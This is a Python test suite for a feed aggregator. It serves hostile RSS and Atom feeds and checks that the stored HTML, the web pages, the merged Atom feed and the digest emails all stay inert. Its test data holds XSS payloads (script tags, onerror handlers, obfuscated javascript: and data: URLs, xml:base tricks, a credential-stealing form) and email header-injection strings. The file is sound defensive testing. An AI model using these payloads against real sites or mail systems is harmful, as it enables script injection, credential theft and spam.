"""Content injection end to end (THREATS C1, C2, C3, C5, C6): a hostile feed served on
loopback is polled into SQLite, then read back from every place it reaches — the stored
HTML, the timeline, entry and source pages, the merged Atom feed, and a digest sent to a
real SMTP server (HTML part, text part, Subject, envelope)."""

from __future__ import annotations

import html
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from feedserver import FeedServer
from smtpserver import SmtpServer
from starlette.testclient import TestClient
from threatkit import START, Clock, add, make_settings, poll, rows

from aggregator.config import Settings
from aggregator.digests.build import build_pending
from aggregator.digests.send import send_pending
from aggregator.mail import open_sender
from aggregator.store import Store
from aggregator.subscriptions import add_by_operator, links_for
from aggregator.web import create_app

ROOT = Path(__file__).resolve().parent.parent

FEED_TITLE = '<script>alert("feed")</script>Evil & Co\r\nBcc: victim@evil.test\u2028X-Hdr: 1\x00'
ENTRY_TITLE = '<img src=x onerror=alert(1)>Title <b>bold</b> "quoted" & done\r\nBcc: x@evil.test'
AUTHOR = '<a href="javascript:alert(1)">Mallory</a>\nTo: evil@evil.test'
BODY = """
<p onclick="alert(1)" style="position:fixed;top:0">Readable words.</p>
<script>alert("body")</script><noscript><p>ns</p></noscript>
<iframe src="https://evil.test/frame"></iframe><object data="x.swf"></object><embed src="x">
<form action="https://evil.test/steal"><input name="password"></form>
<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">
<svg><script>alert("svg")</script><a xlink:href="javascript:alert(2)">svg link</a></svg>
<math><mtext><script>alert("math")</script></mtext></math>
<a href="JaVaScRiPt:alert(3)">mixed case</a>
<a href="jav&#x09;ascript:alert(4)">tab entity</a>
<a href="&#106;avascript:alert(5)">decimal entity</a>
<a href="vbscript:msgbox(6)">vb</a>
<a href="data:text/html,&lt;script&gt;alert(7)&lt;/script&gt;">data</a>
<a href="//evil.test/protocol-relative">pr</a>
<a href="/\\evil.test/backslash">bs</a>
<a href="https://good.test/story?utm_source=feed&amp;id=7">good link</a>
<img src="https://good.test/photo.jpg" onerror="alert(8)" alt="photo">
<img src="https://tracker.test/pixel.gif" width="1" height="1">
"""

ACTIVE_TAGS = {"script", "iframe", "object", "embed", "form", "input", "base", "svg", "math"}


def hostile_rss() -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>{html.escape(FEED_TITLE.replace(chr(0), ""))}</title>
<link>https://hostile.test/</link><description>d</description>
<item><title>{html.escape(ENTRY_TITLE)}</title><link>https://hostile.test/post?utm_source=rss</link>
<guid>https://hostile.test/post</guid><pubDate>Sat, 28 Nov 2026 08:00:00 GMT</pubDate>
<dc:creator>{html.escape(AUTHOR)}</dc:creator>
<content:encoded><![CDATA[{BODY}]]></content:encoded></item>
</channel></rss>""".encode()


def hostile_atom() -> bytes:
    """xml:base pointing at javascript:, and relative links resolved against it."""
    return b"""<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(9)//">
<title>Base trick</title><id>urn:base</id><updated>2026-11-28T08:00:00Z</updated>
<link href="https://base.test/"/>
<entry xml:base="javascript:alert(10)//"><title>Relative everything</title><id>urn:base:1</id>
<link rel="alternate" href="relative/post"/>
<updated>2026-11-28T07:00:00Z</updated>
<content type="html">&lt;a href="relative/inner"&gt;inner&lt;/a&gt; &lt;img src="pic.png"&gt;</content>
</entry></feed>"""


class Markup(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML document."""

    def __init__(self, document: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(document)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert(document: str, *, where: str, internal_links: bool) -> Markup:
    """C1 and C3 for one HTML document: nothing active, every link http(s) or ours."""
    markup = Markup(document)
    for tag, attrs in markup.tags:
        if internal_links and tag in ("form", "input"):  # the page's own search form
            assert urlsplit(attrs.get("action", "/")).netloc == "", f"{where}: {attrs}"
            continue
        assert tag not in ACTIVE_TAGS, f"{where}: <{tag}> survived"
        if tag == "meta":
            assert "http-equiv" not in attrs, f"{where}: meta refresh survived"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{where}: {name} on <{tag}>"
            assert "javascript" not in value.lower(), f"{where}: {name}={value!r}"
            assert "vbscript" not in value.lower(), f"{where}: {name}={value!r}"
        for name in ("href", "src", "action", "formaction", "xlink:href", "poster"):
            if name not in attrs:
                continue
            value = attrs[name]
            if value.startswith("#"):  # a place in the same document
                continue
            if tag == "link" and attrs.get("rel") == "icon" and value == "data:,":
                continue  # the page's own "no favicon" marker
            scheme = urlsplit(value).scheme
            if internal_links and scheme == "" and value.startswith("/"):
                assert not value.startswith(("//", "/\\")), f"{where}: {name}={value!r}"
                continue
            if tag == "link" and attrs.get("rel") == "stylesheet" and internal_links:
                continue
            assert scheme in ("http", "https") and urlsplit(value).netloc, (
                f"{where}: <{tag} {name}={value!r}>"
            )
            assert "utm_source" not in value, f"{where}: tracking kept in {value!r}"
            assert "tracker.test" not in value, f"{where}: tracking pixel kept"
    return markup


@dataclass
class Site:
    settings: Settings
    store: Store
    clock: Clock
    client: TestClient
    feed_id: int
    atom_feed_id: int


@pytest.fixture
def site(tmp_path: Path, feed_server: FeedServer, smtp_server: SmtpServer) -> Iterator[Site]:
    settings = make_settings(tmp_path, smtp_port=smtp_server.port)
    store = Store.open(settings.database)
    clock = Clock(START)
    add_by_operator(
        store,
        settings,
        links_for(store, settings),
        email="reader@example.org",
        cadence="daily",
        first_digest_now=True,
        now=START,
    )
    feed_id = add(store, feed_server.add("/hostile.xml", body=hostile_rss()))
    atom_feed_id = add(
        store,
        feed_server.add(
            "/base.xml", body=hostile_atom(), content_type="application/atom+xml; charset=utf-8"
        ),
    )
    summaries = poll(settings, store, clock)
    assert {s.status for s in summaries} == {"ok"}, [s.error for s in summaries]
    with TestClient(create_app(settings, clock=clock), base_url="https://news.example.org") as c:
        yield Site(settings, store, clock, c, feed_id, atom_feed_id)
    assert store.integrity_ok()
    store.close()


def entry_id(site: Site, feed_id: int) -> int:
    ((found,),) = rows(site.store, "SELECT id FROM entries WHERE feed_id = ?", feed_id)
    return int(found)


def test_c1_c3_stored_html_is_inert_and_sanitising_again_changes_nothing(site: Site) -> None:
    """C1, C3: the HTML stored from the hostile feed holds nothing active, every link in it
    is absolute http(s) without trackers, and sanitising it again changes nothing."""
    from aggregator.sanitize import sanitize_html

    stored = rows(site.store, "SELECT content_html, summary_html, link FROM entries")
    assert len(stored) == 2
    for content, summary, link in stored:
        for fragment in (content, summary):
            assert_inert(fragment, where="stored", internal_links=False)
            assert sanitize_html(fragment) == fragment
        assert link is None or urlsplit(link).scheme in ("http", "https")
    (content,) = [c for c, _, _ in stored if "Readable" in c]
    assert "Readable words." in content and "good.test/story" in content
    assert 'src="https://good.test/photo.jpg"' in content


def test_c1_c2_c3_pages_show_markup_as_text_and_run_nothing(site: Site) -> None:
    """C1, C2, C3 on the web: timeline, entry page (and its <title>) and source page."""
    client = site.client
    hostile = entry_id(site, site.feed_id)
    pages = {
        "timeline": client.get("/"),
        "entry": client.get(f"/entries/{hostile}"),
        "atom entry": client.get(f"/entries/{entry_id(site, site.atom_feed_id)}"),
        "source": client.get(f"/sources/{site.feed_id}"),
        "search": client.get("/", params={"q": "bold"}),
    }
    for where, page in pages.items():
        assert page.status_code == 200, where
        assert_inert(page.text, where=where, internal_links=True)
        assert "<b>bold</b>" not in page.text and "<img src=x" not in page.text
    entry_page = pages["entry"].text
    title = re.search(r"<title>(.*?)</title>", entry_page, re.S)
    assert title is not None
    shown = html.unescape(title[1])
    assert "Title" in shown and "<" not in title[1]
    visible = "".join(Markup(entry_page).text)
    assert "Title bold" in visible and '<a href="javascript:alert(1)">Mallory</a>' in visible
    literal_source = '<script>alert("feed")</script>Evil & Co'
    for where in ("timeline", "entry", "source"):
        assert literal_source in "".join(Markup(pages[where].text).text), where
    source_title = re.search(r"<title>(.*?)</title>", pages["source"].text, re.S)
    assert source_title is not None and literal_source in html.unescape(source_title[1])


def test_c1_c2_c3_merged_atom_feed_carries_only_inert_html(site: Site) -> None:
    """C1, C2, C3 in /feed.atom: well-formed XML, plain-text titles, inert HTML content,
    http(s) links only."""
    answer = site.client.get("/feed.atom")
    assert answer.status_code == 200
    ns = {"a": "http://www.w3.org/2005/Atom"}
    document = ET.fromstring(answer.content)
    entries = document.findall("a:entry", ns)
    assert len(entries) == 2
    for entry in entries:
        title = entry.find("a:title", ns)
        assert title is not None and title.get("type", "text") == "text"
        assert "\r" not in (title.text or "")
        for link in entry.findall("a:link", ns):
            assert urlsplit(link.get("href", "")).scheme in ("http", "https")
        for field in ("a:content", "a:summary"):
            node = entry.find(field, ns)
            if node is not None and node.text:
                assert_inert(node.text, where=f"atom {field}", internal_links=False)


def sent_digest(site: Site, smtp_server: SmtpServer) -> EmailMessage:
    settings, store = site.settings, site.store
    built = build_pending(store, settings, START, due_only=False)
    assert built.built == 1
    sender = open_sender(settings.mail.smtp, settings.mail.outbox)
    try:
        report = send_pending(store, sender, settings, lambda: START)
    finally:
        sender.close()
    assert report.sent == 1, report.errors
    (received,) = smtp_server.received()
    assert received.rcpt_tos == ("reader@example.org",)  # C5: nobody else
    assert smtp_server.rcpt_seen == ["reader@example.org"]
    return received.parse()


def test_c1_c2_c3_c5_digest_email_is_inert_literal_and_has_one_recipient(
    site: Site, smtp_server: SmtpServer
) -> None:
    """C1, C2, C3, C5 in the digest: the HTML part runs nothing and links http(s) only;
    markup shows as text in both parts; CR, LF, U+2028 and NUL from feed titles never
    make a header; the SMTP server sees only the subscriber."""
    message = sent_digest(site, smtp_server)
    for _name, value in message.items():
        assert "\r" not in value and "\n" not in value.replace("\n ", "").replace("\n\t", "")
        assert "\u2028" not in value and "\x00" not in value
    assert message.get_all("Subject") is not None and len(message.get_all("Subject")) == 1
    assert message.get_all("Bcc") is None and message.get_all("X-Hdr") is None
    assert message["To"] == "reader@example.org"
    html_part = message.get_body(("html",))
    text_part = message.get_body(("plain",))
    assert html_part is not None and text_part is not None
    markup = assert_inert(html_part.get_content(), where="digest html", internal_links=False)
    visible = " ".join(markup.text)
    literal_source = '<script>alert("feed")</script>Evil & Co'
    assert literal_source in visible and "Title bold" in visible
    text = text_part.get_content()
    assert literal_source in text and "Title bold" in text
    assert literal_source in message["Subject"]


def test_c6_safe_marking_only_on_sanitiser_output() -> None:
    """C6: no template uses ``|safe`` or turns autoescaping off, and the only places that
    mark a string safe in the code are the sanitiser filter and the XML-character filter
    applied to already-escaped output."""
    offenders = []
    for template in (ROOT / "templates").rglob("*"):
        if template.is_file():
            text = template.read_text(encoding="utf-8")
            if re.search(r"\|\s*safe\b|autoescape\s+false", text):
                offenders.append(str(template.relative_to(ROOT)))
    assert offenders == []
    markups = []
    for source in (ROOT / "aggregator").rglob("*.py"):
        for line in source.read_text(encoding="utf-8").splitlines():
            if re.search(r"\bMarkup\(", line) and not line.lstrip().startswith(("#", '"')):
                markups.append((source.relative_to(ROOT).as_posix(), line.strip()))
    assert {path for path, _ in markups} <= {"aggregator/render.py", "aggregator/web/feeds.py"}
    assert any("sanitize_html(" in line for _, line in markups)


def test_c6_confirmation_mail_carries_no_free_text_from_the_form(
    tmp_path: Path, smtp_server: SmtpServer
) -> None:
    """C6: a sign-up form stuffed with extra fields and markup: the confirmation mail holds
    the address and our own words only."""
    settings = make_settings(tmp_path, smtp_port=smtp_server.port)
    store = Store.open(settings.database)
    try:
        with TestClient(
            create_app(settings, clock=Clock(START)), base_url="https://news.example.org"
        ) as client:
            form = client.get("/subscribe")
            token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
            assert token is not None
            answer = client.post(
                "/subscribe",
                data={
                    "csrf_token": token[1],
                    "email": "new.reader@example.org",
                    "cadence": "daily",
                    "name": "<b>INJECTED-NAME</b>",
                    "message": "Click https://evil.test/phish INJECTED-MESSAGE",
                    "note": "INJECTED-NOTE",
                },
            )
        assert answer.status_code == 200
        (message,) = smtp_server.messages()
        whole = message.as_string()
        for marker in ("INJECTED", "evil.test", "<b>"):
            assert marker not in whole
        assert message["To"] == "new.reader@example.org"
        text_part = message.get_body(("plain",))
        assert text_part is not None
        for url in re.findall(r"https?://\S+", text_part.get_content()):
            assert urlsplit(url).netloc == "news.example.org", url
    finally:
        store.close()
